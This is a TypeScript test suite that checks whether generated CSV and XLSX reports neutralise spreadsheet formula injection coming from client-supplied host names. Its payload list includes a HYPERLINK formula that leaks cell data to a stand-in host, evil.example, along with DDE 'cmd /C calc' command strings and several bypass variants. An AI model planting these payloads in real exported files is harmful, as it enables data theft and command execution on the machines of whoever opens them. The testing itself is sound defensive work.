import * as fc from 'fast-check';
import { readCsv } from './csv-reader';
import { readXlsx } from './xlsx-reader';
import { blocksCsv, customerTrafficCsv } from '../../src/reporting/runtime/csv';
import { HistoryRecord } from '../../src/reporting/runtime/guard-summary';
import { monthlyCostWorkbook, updateYearWorkbook } from '../../src/reporting/runtime/workbook';

/**
 * Host names come from the client's Host header: written to a CSV, none may reach a spreadsheet as a formula. Files are
 * read back with an independent RFC 4180 reader.
 */

/** Fifteen shapes of formula injection: OWASP's characters, its two examples, and ways around a first-character check. */
export const FORMULA_SHAPES = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"Details")',
  "+cmd|' /C calc'!A0",
  '-2+3',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+2',
  '\r=1+2',
  '\n=1+2',
  ' =1+2',
  '"=1+2"',
  "'=1+2",
  '\uFF1D1+2',
  '=1+2";=1+2',
  "=1+2'\" ;,=1+2",
  'www.example.com;=1+2',
  'a,-1+1',
];

const BOM = '\uFEFF';

/** A field a spreadsheet could evaluate: a formula character first, also after spaces or quotes, or a control character. */
const EVALUATED = /^(?:[\t\r\n\0]|[\s"']*[=+\-@\uFF1D\uFF0B\uFF0D\uFF20])/;
const safe = (field: string) => field.startsWith("'") || !EVALUATED.test(field);
/** What a reader recovers: the displayed value without the neutralising quote. */
const recovered = (field: string) => (field.startsWith("'") ? field.slice(1) : field);

function read(csv: string): string[][] {
  expect(csv.startsWith(BOM)).toBe(true);
  return readCsv(csv.slice(BOM.length));
}

const hostile = fc.oneof(
  fc.constantFrom(...FORMULA_SHAPES),
  fc.string({ unit: 'binary', maxLength: 30 }),
  fc.tuple(fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\n', ' ', '"', "'", ';', ',', '\uFF0B'), fc.string({ maxLength: 20 })).map(([a, b]) => a + b),
);
const count = fc.option(fc.integer({ min: -1_000_000, max: 1_000_000 }), { nil: undefined });

function record(ip: string, ruleId: string, host: string, event: string, action: string, n: number | undefined): HistoryRecord {
  return { ip, at: Date.UTC(2026, 10, 30, 8), event, ruleId, host, action, observed: n, threshold: n, windowSeconds: n };
}

describe('CSV formula injection', () => {
  test('the fifteen shapes in every text column of blocks.csv are neutralised, quoted and recoverable', () => {
    const records = FORMULA_SHAPES.map((s) => record(s, s, s, s, s, -2));
    const csv = blocksCsv(records);
    const rows = read(csv);
    expect(rows[0]).toEqual(['time', 'event', 'client', 'rule', 'host', 'action', 'observed', 'threshold', 'window_seconds', 'blocked_at', 'blocked_until']);
    expect(rows).toHaveLength(1 + FORMULA_SHAPES.length);
    FORMULA_SHAPES.forEach((shape, i) => {
      const [, event, client, rule, host, action, observed] = rows[i + 1];
      for (const field of [event, client, rule, host, action]) {
        // A separator or quote inside the text cannot start a cell: the field is quoted and read back whole.
        expect(field).toBe(/^[a-z]/.test(shape) ? shape : `'${shape}`);
        expect(safe(field)).toBe(true);
        expect(recovered(field)).toBe(shape);
      }
      // A negative number stays a number.
      expect(observed).toBe('-2');
    });
    // Every text cell is quoted, the header included; numbers are not.
    expect(csv.split('\r\n')[0]).toBe(`${BOM}"time","event","client","rule","host","action","observed","threshold","window_seconds","blocked_at","blocked_until"`);
    // Exactly as OWASP writes its example: quoted, quote prefixed, inner quotes doubled.
    expect(csv).toContain('"\'=1+2"";=1+2"');
  });

  test('a plain host name is written as it is', () => {
    const csv = customerTrafficCsv({ customer: 'acme', hosts: [{ host: 'www.acme.example', requests: 3, requestBytes: 1000, responseBytes: 0, statusCodes: [] } as never] });
    expect(read(csv)).toEqual([['hostname', 'requests', 'request_mb', 'response_mb'], ['www.acme.example', '3', '0.001', '0']]);
  });

  test('property: any text in any text column reads back safe and recoverable, numbers stay numbers', () => {
    fc.assert(fc.property(
      fc.array(fc.record({ ip: hostile, ruleId: hostile, host: hostile, event: hostile, action: hostile, n: count }), { maxLength: 8 }),
      fc.array(fc.record({ host: hostile, requests: fc.nat() }), { maxLength: 8 }),
      (history, hosts) => {
        const blocks = blocksCsv(history.map((h) => record(h.ip, h.ruleId, h.host, h.event, h.action, h.n)));
        const rows = read(blocks);
        expect(rows).toHaveLength(1 + history.length);
        history.forEach((h, i) => {
          const [, event, client, rule, host, action, observed, threshold] = rows[i + 1];
          expect([event, client, rule, host, action].map(recovered)).toEqual([h.event, h.ip, h.ruleId, h.host, h.action]);
          for (const field of [event, client, rule, host, action]) expect(safe(field)).toBe(true);
          expect(observed).toBe(h.n === undefined ? '' : String(h.n));
          expect(threshold).toBe(observed);
        });
        const traffic = customerTrafficCsv({ customer: 'c', hosts: hosts.map((h) => ({ ...h, requestBytes: 0, responseBytes: 0, statusCodes: [] }) as never) });
        const trafficRows = read(traffic);
        expect(trafficRows.slice(1).map((r) => recovered(r[0]))).toEqual(hosts.map((h) => h.host));
        for (const row of trafficRows.slice(1)) expect(safe(row[0])).toBe(true);
        expect(trafficRows.slice(1).map((r) => r[1])).toEqual(hosts.map((h) => String(h.requests)));
      },
    ), { numRuns: 300 });
  });
});

describe('xlsx text cells', () => {
  test('cost items shaped like formulas are string cells in the file, never formulas, and read back as written', async () => {
    const costs = {
      month: '2026-11',
      aws: FORMULA_SHAPES.map((item, i) => ({ source: 'AWS' as const, item, amount: i - 3 })),
      elastic: FORMULA_SHAPES.map((item) => ({ source: 'Elastic Cloud' as const, item, amount: 1 })),
    };
    for (const file of [await monthlyCostWorkbook(costs), await updateYearWorkbook(undefined, costs)]) {
      for (const [, sheet] of readXlsx(file)) {
        for (const [address, cell] of sheet) {
          // Formulas only where the workbook sums figures: column C or D, never over text.
          if (cell.formula !== undefined) expect(cell.formula).toMatch(/^(SUM\([A-D]\d+:[A-D]\d+\)|[A-D]\d+(\+[A-D]\d+)*|0)$/);
          if (/^[AB]\d+$/.test(address) && cell.formula === undefined && cell.type !== undefined) expect(['s', 'inlineStr']).toContain(cell.type);
        }
      }
    }
    const month = readXlsx(await monthlyCostWorkbook(costs)).get('Costs 2026-11')!;
    const items = [...month].filter(([a]) => /^B\d+$/.test(a)).map(([, c]) => c);
    for (const shape of FORMULA_SHAPES) {
      const cells = items.filter((c) => c.value === shape);
      expect(cells).toHaveLength(2);
      for (const c of cells) {
        expect(['s', 'inlineStr']).toContain(c.type);
        expect(c.formula).toBeUndefined();
      }
    }
  });
});
